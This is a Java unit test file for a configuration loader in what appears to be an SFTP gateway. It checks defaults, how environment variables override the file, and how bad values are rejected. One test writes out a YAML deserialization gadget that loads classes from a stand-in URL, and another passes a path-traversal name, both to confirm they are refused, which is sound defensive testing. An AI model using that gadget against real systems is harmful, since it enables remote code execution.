package fi.callgate.gateway.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {
    @TempDir
    Path dir;

    @Test
    void defaultsMatchTheContract() {
        CallgateConfig c = ConfigLoader.load(null, Map.of());
        assertThat(c.dataDir()).isEqualTo(Path.of("data").toAbsolutePath());
        assertThat(c.storageLocation()).isEqualTo("FI");
        assertThat(c.sftp().host()).isEqualTo("0.0.0.0");
        assertThat(c.sftp().port()).isEqualTo(2222);
        assertThat(c.management().host()).isEqualTo("127.0.0.1");
        assertThat(c.management().port()).isEqualTo(9464);
        assertThat(c.retention().defaultDays()).isEqualTo(120);
        assertThat(c.retention().maxDays()).isEqualTo(183);
        assertThat(c.retention().personalIdDays()).isEqualTo(30);
        assertThat(c.shredderInterval()).isEqualTo(Duration.ofMinutes(1));
        assertThat(c.sftp().maxAuthAttempts()).isLessThanOrEqualTo(6);
        assertThat(c.sftp().authTimeout()).isLessThanOrEqualTo(Duration.ofSeconds(30));
        assertThat(c.bootstrapAdmin()).isEmpty();
    }

    @Test
    void theShippedFileLoadsAndEveryKeyIsDocumented() throws Exception {
        Path shipped = Path.of("..", "config", "callgate.yaml");
        CallgateConfig c = ConfigLoader.load(shipped, Map.of());
        assertThat(c.sftp().port()).isEqualTo(2222);
        String text = Files.readString(shipped);
        for (ConfigKey k : ConfigLoader.KEYS) {
            if (k.name().equals("master-key.value")) {
                assertThat(text).contains("CALLGATE_MASTER_KEY");
                continue;
            }
            String leaf = k.name().substring(k.name().lastIndexOf('.') + 1);
            assertThat(text).as("key " + k.name() + " in callgate.yaml").contains(leaf + ":");
        }
    }

    @Test
    void fileThenEnvironment() throws Exception {
        Path f = Files.writeString(dir.resolve("c.yaml"), "sftp:\n  port: 3000\nretention:\n  default-days: 90\n");
        CallgateConfig c = ConfigLoader.load(f, Map.of("CALLGATE_SFTP_PORT", "4000"));
        assertThat(c.sftp().port()).isEqualTo(4000);
        assertThat(c.retention().defaultDays()).isEqualTo(90);
    }

    @Test
    void environmentNamesFollowTheContract() {
        CallgateConfig c = ConfigLoader.load(null, Map.of("CALLGATE_SHREDDER_INTERVAL", "PT5M",
                "CALLGATE_RETENTION_PERSONAL_ID_DAYS", "14", "CALLGATE_BOOTSTRAP_ADMIN_NAME", "it",
                "CALLGATE_BOOTSTRAP_ADMIN_PUBLIC_KEY", "ssh-ed25519 AAAA x"));
        assertThat(c.shredderInterval()).isEqualTo(Duration.ofMinutes(5));
        assertThat(c.retention().personalIdDays()).isEqualTo(14);
        assertThat(c.bootstrapAdmin()).isPresent();
    }

    @Test
    void badValuesNameTheKeyOnOneLine() throws Exception {
        assertRefused(Map.of("CALLGATE_SFTP_PORT", "abc"), "config sftp.port: must be a whole number");
        assertRefused(Map.of("CALLGATE_SFTP_PORT", "70000"), "config sftp.port: must be between 0 and 65535");
        assertRefused(Map.of("CALLGATE_RETENTION_MAX_DAYS", "200"), "config retention.max-days");
        assertRefused(Map.of("CALLGATE_RETENTION_DEFAULT_DAYS", "150", "CALLGATE_RETENTION_MAX_DAYS", "140"),
                "config retention.default-days: must not exceed retention.max-days");
        assertRefused(Map.of("CALLGATE_SHREDDER_INTERVAL", "1 minute"), "config shredder.interval: must be an ISO-8601");
        assertRefused(Map.of("CALLGATE_SFTP_MAX_AUTH_ATTEMPTS", "20"), "config sftp.max-auth-attempts");
        assertRefused(Map.of("CALLGATE_BOOTSTRAP_ADMIN_NAME", "it"), "config bootstrap-admin.public-key");
        assertRefused(Map.of("CALLGATE_BOOTSTRAP_ADMIN_NAME", "../root", "CALLGATE_BOOTSTRAP_ADMIN_PUBLIC_KEY", "x"),
                "config bootstrap-admin.name");
        Path f = Files.writeString(dir.resolve("typo.yaml"), "retention:\n  defualt-days: 10\n");
        assertThatThrownBy(() -> ConfigLoader.load(f, Map.of())).hasMessage(
                "config retention.defualt-days: unknown key in typo.yaml");
    }

    @Test
    void yamlIsLoadedSafely() throws Exception {
        Path f = Files.writeString(dir.resolve("evil.yaml"),
                "data-dir: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertThatThrownBy(() -> ConfigLoader.load(f, Map.of())).isInstanceOf(ConfigException.class);
    }

    private static void assertRefused(Map<String, String> env, String message) {
        assertThatThrownBy(() -> ConfigLoader.load(null, env)).isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(message).satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
    }
}
